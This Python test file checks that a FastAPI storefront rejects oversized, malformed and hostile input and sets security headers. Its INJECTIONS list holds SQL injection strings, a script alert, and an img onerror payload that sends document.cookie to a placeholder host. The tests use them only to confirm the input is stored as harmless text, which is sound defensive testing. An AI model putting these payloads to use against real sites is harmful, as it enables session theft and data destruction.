"""Hostile and malformed input: oversized bodies get 413 before they are read whole; bad JSON,
wrong content types, absurd numbers, unicode tricks and injection strings are answered 4xx or
stored harmlessly as text, never 500; every response carries the security headers.
"""

import json
import re
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine
from starlette.types import Message

from app.domain.products import IMAGE_SLOTS
from app.main import create_app
from app.web.pages import HTML_PREFIXES
from tests.asgi import answer, http_scope
from tests.conftest import FRONTEND, PASSWORD, client_for, create_product, make_settings, vendor

JSON_LIMIT = 4096
FORM_LIMIT = 64 * 1024
SECURITY_HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Referrer-Policy": "strict-origin-when-cross-origin",
}
INJECTIONS = [
    "'; DROP TABLE products; --",
    "Robert'); DELETE FROM users WHERE ('1'='1",
    '" OR 1=1 --',
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil/`+document.cookie)">',
    "{{7*7}} ${7*7} %s%s%n",
    "\u202eevil.exe\u202c",  # right-to-left override
    "Ankara\u200b\u200ddress",  # zero-width joiners
    "Ade\u0301\u0300\u0302",  # stacked combining marks
    "\uff26\uff55\uff4c\uff4c \U0001f457\U0001f1f3\U0001f1ec",  # fullwidth, emoji, flag
]


@pytest.fixture
async def small_app(database_url: str, engine: AsyncEngine) -> AsyncIterator[FastAPI]:
    settings = make_settings(
        database_url, JSON_MAX_BYTES=JSON_LIMIT, PRODUCT_FORM_MAX_BYTES=FORM_LIMIT
    )
    application = create_app(settings)
    yield application
    await application.state.engine.dispose()


@pytest.fixture
async def small(small_app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    async with client_for(small_app) as http:
        yield http


async def send_json(
    client: httpx.AsyncClient,
    method: str,
    path: str,
    payload: dict[str, Any],
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    """JSON with non-ASCII escaped, as any client may send it (lone surrogates included)."""
    return await client.request(
        method,
        path,
        content=json.dumps(payload).encode(),
        headers={**(headers or {}), "Content-Type": "application/json"},
    )


def assert_error(response: httpx.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()
    assert isinstance(body["detail"], str) and body["detail"]
    assert body["request_id"] == response.headers["X-Request-ID"]
    return body


async def test_declared_oversized_body_is_refused_before_reading(small_app: FastAPI) -> None:
    """Straight through ASGI: the app answers 413 without asking for a single body chunk."""
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", str(50 * 1024 * 1024).encode()),
    ]
    scope = http_scope("POST", "/api/users/register", headers, ("127.0.0.1", 5000))

    async def receive() -> Message:
        raise AssertionError("the body was read")

    sent = await answer(small_app, scope, receive)
    start = sent[0]
    assert start["status"] == 413
    headers = {k.decode().lower(): v.decode() for k, v in start["headers"]}
    assert headers["content-type"] == "application/json"
    assert headers["x-content-type-options"] == "nosniff"
    body = json.loads(b"".join(m.get("body", b"") for m in sent[1:]))
    assert body["detail"].startswith("Request body too large")
    assert body["request_id"] == headers["x-request-id"]


STREAMED = [
    ("/api/users/register", "application/json", JSON_LIMIT),
    ("/api/auth/login", "application/json", JSON_LIMIT),
    # A photo route takes JSON too; only its multipart form gets the larger limit.
    ("/api/products", "application/json", JSON_LIMIT),
    ("/api/products", "application/x-www-form-urlencoded", JSON_LIMIT),
    ("/api/products", "multipart/form-data; boundary=x", FORM_LIMIT),
]


@pytest.mark.parametrize(("path", "content_type", "limit"), STREAMED)
async def test_streamed_oversized_body_is_cut_off(
    small: httpx.AsyncClient, path: str, content_type: str, limit: int
) -> None:
    headers = await vendor(small) if path == "/api/products" else {}
    chunk = b"x" * 1024
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        if content_type.startswith("multipart/"):
            yield b'--x\r\nContent-Disposition: form-data; name="image_1"; filename="a.jpg"\r\n\r\n'
        while sent < FORM_LIMIT * 4:
            sent += len(chunk)
            yield chunk

    response = await small.post(
        path, content=endless(), headers={**headers, "Content-Type": content_type}
    )
    body = assert_error(response, 413)
    assert str(limit) in body["detail"]
    assert sent <= limit + 2 * len(chunk)


def body_routes(app: FastAPI) -> list[tuple[str, str]]:
    """Every route that takes a body, with its path values filled in."""
    found = []
    for context in iter_route_contexts(app.router.routes):
        for method in sorted(getattr(context, "methods", None) or ()):
            if method in {"POST", "PUT", "PATCH", "DELETE"}:
                found.append((method, re.sub(r"{[^}]+}", "1", context.path)))
    return found


async def test_json_is_held_to_the_json_limit_on_every_route(
    small_app: FastAPI, small: httpx.AsyncClient
) -> None:
    routes = body_routes(small_app)
    assert ("POST", "/api/products") in routes and ("PUT", "/api/products/1") in routes
    oversized = b'{"name": "' + b"x" * JSON_LIMIT + b'"}'
    for method, path in routes:
        for content_type in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
            response = await small.request(
                method, path, content=oversized, headers={"Content-Type": content_type}
            )
            if path.startswith(HTML_PREFIXES):
                # The vendor area's and the store pages' forms: the same refusal as a page.
                assert response.status_code == 413, response.text
                assert response.headers["content-type"].startswith("text/html")
                assert response.headers["X-Request-ID"] in response.text
            else:
                assert_error(response, 413)
    # The same size as a multipart form is read on the photo routes (here: refused unsigned in).
    form = b"--x\r\n" + oversized + b"\r\n--x--\r\n"
    multipart = {"Content-Type": "multipart/form-data; boundary=x"}
    for method, path in (("POST", "/api/products"), ("PUT", "/api/products/1")):
        response = await small.request(method, path, content=form, headers=multipart)
        assert_error(response, 401)


async def test_product_form_gets_the_larger_limit(small: httpx.AsyncClient) -> None:
    headers = await vendor(small)
    fields = {"name": "Ankara dress", "price": "1500", "description": "d" * (JSON_LIMIT * 2)}
    # The frontend's multipart form, here with an empty file input as browsers send one.
    no_photo = {"image_1": ("", b"", "application/octet-stream")}
    description_too_long = await small.post(
        "/api/products", data=fields, files=no_photo, headers=headers
    )
    # Over the JSON limit yet under the form limit: the body is read, the schema refuses it.
    assert_error(description_too_long, 422)
    photos = {
        f"image_{slot}": ("p.jpg", b"\xff" * (FORM_LIMIT // 4), "image/jpeg")
        for slot in (1, 2, 3, 4, 5)
    }
    too_big = await small.post("/api/products", data=fields, files=photos, headers=headers)
    assert_error(too_big, 413)
    assert len(photos) == IMAGE_SLOTS


@pytest.mark.parametrize(
    ("content", "content_type", "statuses"),
    [
        (b"{", "application/json", {400, 422}),
        (b'{"email": "a@b.c", "password": ', "application/json", {400, 422}),
        (b"\xff\xfe\x00garbage", "application/json", {400, 422}),
        (b"[" * 100_000 + b"]" * 100_000, "application/json", {400, 413, 422}),
        (
            b'{"email": "x@example.com", "password": 1' + b"0" * 5000 + b"}",
            "application/json",
            {400, 422},
        ),
        (b"[]", "application/json", {422}),
        (b"null", "application/json", {422}),
        (b"email=a", "text/plain", {415, 422}),
        (b"<xml/>", "application/xml", {415, 422}),
        (b"--x\r\nbroken", "multipart/form-data; boundary=x", {400, 422}),
        (b"--x\r\nbroken", "multipart/form-data", {400, 422}),
    ],
)
@pytest.mark.parametrize("path", ["/api/auth/login", "/api/users/register", "/api/products"])
async def test_malformed_bodies_are_4xx(
    client: httpx.AsyncClient,
    path: str,
    content: bytes,
    content_type: str,
    statuses: set[int],
) -> None:
    headers = await vendor(client) if path == "/api/products" else {}
    response = await client.post(
        path, content=content, headers={**headers, "Content-Type": content_type}
    )
    assert response.status_code in statuses, response.text
    assert_error(response, response.status_code)


@pytest.mark.parametrize(
    "price",
    ["NaN", "nan", "Infinity", "-Infinity", "-1", "0", "-0.01", "1e999999", "1e-999999",
     "12.345", "abc", "", " ", "10000000000", "0x10", "1_000", "١٢٣"],
)  # fmt: skip
async def test_bad_prices_are_refused(client: httpx.AsyncClient, price: str) -> None:
    headers = await vendor(client)
    as_form = await client.post(
        "/api/products", data={"name": "Dress", "price": price}, headers=headers
    )
    assert_error(as_form, 422)
    literal = price if price.strip() else '""'
    as_json = await client.post(
        "/api/products",
        content=f'{{"name": "Dress", "price": {literal}}}',
        headers={**headers, "Content-Type": "application/json"},
    )
    assert as_json.status_code in {400, 422}, as_json.text
    assert_error(as_json, as_json.status_code)


@pytest.mark.parametrize("bad", ["bad\x00byte", "lone \ud800 surrogate"])
async def test_unstorable_characters_are_refused_everywhere(
    client: httpx.AsyncClient, bad: str
) -> None:
    headers = await vendor(client)
    product = await create_product(client, headers)
    attempts = [
        ("POST", "/api/products", {"name": bad, "price": "10"}),
        ("POST", "/api/products", {"name": "ok", "description": bad, "price": "10"}),
        ("PUT", f"/api/products/{product['id']}", {"name": bad}),
        ("PUT", "/api/users/me/store", {"store_name": bad}),
        ("POST", "/api/auth/login", {"email": bad, "password": "x"}),
        ("POST", "/api/auth/login", {"email": "a@example.com", "password": bad}),
    ]
    for method, path, payload in attempts:
        response = await send_json(client, method, path, payload, headers)
        assert 400 <= response.status_code < 500, (path, response.text)
        assert_error(response, response.status_code)
    # A password is only ever hashed, so a NUL is harmless there; the JSON routes' parser
    # refuses unpaired surrogates outright.
    password = bad + "123456789"
    registered = await send_json(
        client,
        "POST",
        "/api/users/register",
        {"email": "z@example.com", "password": password, "whatsapp_number": "08012345678"},
    )
    if "\x00" in bad:
        assert registered.status_code == 201, registered.text
        credentials = {"email": "z@example.com", "password": password}
        login = await send_json(client, "POST", "/api/auth/login", credentials)
        assert login.status_code == 200, login.text
    else:
        assert_error(registered, 422)
    escaped = quote(bad.encode("utf-8", "surrogatepass"))
    for path in (
        f"/api/store/ada{escaped}",
        f"/api/products/{escaped}",
        f"/api/store/ada/products/{escaped}",
    ):
        response = await client.get(path, headers=headers)
        assert response.status_code in {404, 422}, (path, response.text)


@pytest.mark.parametrize("value", INJECTIONS)
async def test_injection_strings_are_stored_as_text(
    client: httpx.AsyncClient, engine: AsyncEngine, value: str
) -> None:
    headers = await vendor(client)
    product = await create_product(client, headers, name=value, description=value)
    assert product["name"] == value.strip()
    assert product["description"] == value
    updated = await client.put(
        f"/api/products/{product['id']}", data={"description": value}, headers=headers
    )
    assert updated.json()["description"] == value
    store = await client.put("/api/users/me/store", json={"store_name": value}, headers=headers)
    assert store.status_code in {200, 422}, store.text
    slug = await client.put("/api/users/me/store", json={"store_slug": value}, headers=headers)
    assert_error(slug, 422)
    login = await client.post("/api/auth/login", json={"email": value, "password": value})
    assert_error(login, 401)
    for path in (f"/api/store/{value}", f"/api/store/ada/products/{value}"):
        assert (await client.get(path)).status_code == 404
    storefront = (await client.get("/api/store/ada")).json()
    assert storefront["products"][0]["description"] == value
    async with engine.connect() as conn:
        assert await conn.scalar(text("SELECT count(*) FROM users")) == 1
        assert await conn.scalar(text("SELECT count(*) FROM products")) == 1


async def test_security_headers_on_every_response(client: httpx.AsyncClient) -> None:
    responses = [
        await client.get("/"),
        await client.get("/api/nowhere"),
        await client.post("/api/users/register", json={}),
        await client.get("/api/sentry/test-error"),
        await client.options(
            "/api/products",
            headers={"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST"},
        ),
    ]
    assert [r.status_code for r in responses] == [200, 404, 422, 500, 200]
    for response in responses:
        for name, value in SECURITY_HEADERS.items():
            assert response.headers[name] == value
        assert "Strict-Transport-Security" not in response.headers


async def test_hsts_in_production(database_url: str, engine: AsyncEngine) -> None:
    settings = make_settings(
        database_url,
        ENVIRONMENT="production",
        CORS_ORIGINS=["https://shop.example.com"],
        HSTS_MAX_AGE_SECONDS=600,
        ALLOW_SQLITE_IN_PRODUCTION=True,
    )
    application = create_app(settings)
    try:
        async with client_for(application) as http:
            for path in ("/", "/api/nowhere"):
                response = await http.get(path)
                assert response.headers["Strict-Transport-Security"] == (
                    "max-age=600; includeSubDomains"
                )
    finally:
        await application.state.engine.dispose()


async def test_cookie_auth_changes_need_our_origin(client: httpx.AsyncClient) -> None:
    """The login cookie rides along on cross-site requests; only the frontend may use it."""
    await vendor(client)
    await client.post("/api/auth/login", json={"email": "ada@example.com", "password": PASSWORD})
    assert client.cookies.get("access_token")
    product = {"name": "Dress", "price": "10"}
    for origin in ({"Origin": "https://evil.example"}, {}, {"Referer": "https://evil.example/x"}):
        refused = await client.post("/api/products", json=product, headers=origin)
        assert_error(refused, 403)
    assert (await client.get("/api/products")).status_code == 200  # reads are not changes
    allowed = await client.post("/api/products", json=product, headers={"Origin": FRONTEND})
    assert allowed.status_code == 201, allowed.text
